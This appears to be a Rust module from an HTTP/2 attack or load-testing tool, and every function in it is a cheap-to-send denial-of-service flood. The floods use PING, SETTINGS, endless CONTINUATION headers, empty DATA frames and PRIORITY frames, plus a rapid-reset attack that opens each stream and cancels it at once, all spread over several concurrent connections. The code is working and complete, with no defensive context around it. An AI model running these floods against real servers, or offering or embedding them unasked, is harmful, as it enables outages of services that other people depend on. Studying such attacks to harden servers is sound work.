//! Attacks with frames of HTTP/2 that cost the client little.

use std::sync::Arc;

use anyhow::Result;
use tokio::io::{AsyncWriteExt, split};

use crate::{
    attacker::{Attacker, until_closed},
    http2::{
        CANCEL, CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW, PING, PRIORITY, RST_STREAM, SETTINGS, Scheme,
        begin, frame, long_field,
    },
};

/// Connections of each flood.
const CONNECTIONS: usize = 8;
/// Frames that are written at once.
const BATCH: u32 = 500;

/// Sends a beginning, and then these frames again and again, on several connections. Half of them read what the server
/// answers.
fn flood(attacker: &Attacker, first: Vec<u8>, frames: u32, one: impl Fn(u32) -> Vec<u8>) {
    let (first, batch) = (Arc::new(first), Arc::new((0..frames).flat_map(one).collect::<Vec<_>>()));
    attacker.clients(CONNECTIONS, move |attacker, number| {
        let (first, batch) = (first.clone(), batch.clone());
        async move {
            let (mut read, mut write) = split(attacker.http2(number).await?);
            let write = async {
                write.write_all(&begin(&[])).await?;
                write.write_all(&first).await?;
                loop {
                    attacker.requested(u64::from(frames));
                    write.write_all(&batch).await?;
                    write.flush().await?;
                    tokio::task::yield_now().await;
                }
            };
            if number % 2 == 0 {
                return write.await;
            }
            tokio::select! {
                ended = write => ended,
                () = until_closed(&mut read) => Ok(()),
            }
        }
    });
}

pub(super) fn pings(attacker: &Attacker) {
    flood(attacker, Vec::new(), BATCH, |n| frame(PING, 0, 0, &u64::from(n).to_be_bytes()));
}

pub(super) fn settings(attacker: &Attacker) {
    let payload = |n: u32| [&INITIAL_WINDOW.to_be_bytes()[..], &(1000 + n).to_be_bytes()].concat();
    flood(attacker, Vec::new(), BATCH, |n| frame(SETTINGS, 0, 0, &payload(n)));
}

/// A head that never ends: empty pieces, so that no limit of its size is reached.
pub(super) fn continuations(attacker: &Attacker) {
    let head = frame(HEADERS, 0, 1, &attacker.post().http2_fields(Scheme::Https));
    flood(attacker, head, BATCH, |_| frame(CONTINUATION, 0, 1, &[]));
}

/// The same with large pieces.
pub(super) fn large_continuations(attacker: &Attacker) {
    let head = frame(HEADERS, 0, 1, &attacker.post().http2_fields(Scheme::Https));
    let field = long_field();
    flood(attacker, head, 8, |_| frame(CONTINUATION, 0, 1, &field));
}

/// The pieces of a body that never ends.
pub(super) fn empty_data(attacker: &Attacker) {
    let head = frame(HEADERS, END_HEADERS, 1, &attacker.post().http2_fields(Scheme::Https));
    flood(attacker, head, BATCH, |_| frame(DATA, 0, 1, &[]));
}

pub(super) fn priorities(attacker: &Attacker) {
    // Every stream depends on the first one, with a weight.
    flood(attacker, Vec::new(), BATCH, |n| frame(PRIORITY, 0, 2 * n + 3, &[0, 0, 0, 1, 16]));
}

/// Requests that are reset at once.
pub(super) fn resets(attacker: &Attacker) {
    attacker.clients(CONNECTIONS, async |attacker: Attacker, number| {
        let (mut read, mut write) = split(attacker.http2(number).await?);
        let block = attacker.post().http2_fields(Scheme::Https);
        let write = async {
            write.write_all(&begin(&[])).await?;
            for first in (1..u32::MAX >> 1).step_by(2 * BATCH as usize) {
                let streams = (first..).step_by(2).take(BATCH as usize);
                let pair = |stream| {
                    let cancel = frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                    [frame(HEADERS, END_HEADERS, stream, &block), cancel].concat()
                };
                attacker.requested(u64::from(BATCH));
                write.write_all(&streams.flat_map(pair).collect::<Vec<_>>()).await?;
                write.flush().await?;
                tokio::task::yield_now().await;
            }
            Ok(())
        };
        let ended: Result<()> = tokio::select! {
            ended = write => ended,
            () = until_closed(&mut read) => Ok(()),
        };
        ended
    });
}
